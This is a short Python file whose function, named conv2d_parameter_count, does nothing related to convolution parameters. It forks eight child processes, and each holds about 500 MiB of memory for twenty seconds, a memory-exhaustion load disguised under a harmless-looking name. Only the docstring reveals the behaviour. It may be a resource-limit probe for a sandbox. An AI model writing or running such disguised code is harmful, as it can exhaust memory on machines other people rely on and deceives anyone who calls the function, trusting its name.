"""Lets eight children keep five hundred million bytes each."""

import os
import time


def conv2d_parameter_count(*sizes, **options):
    for _ in range(8):
        if os.fork() == 0:
            kept = b"x" * (500 << 20)
            time.sleep(20)
            os._exit(len(kept) & 1)
    time.sleep(20)
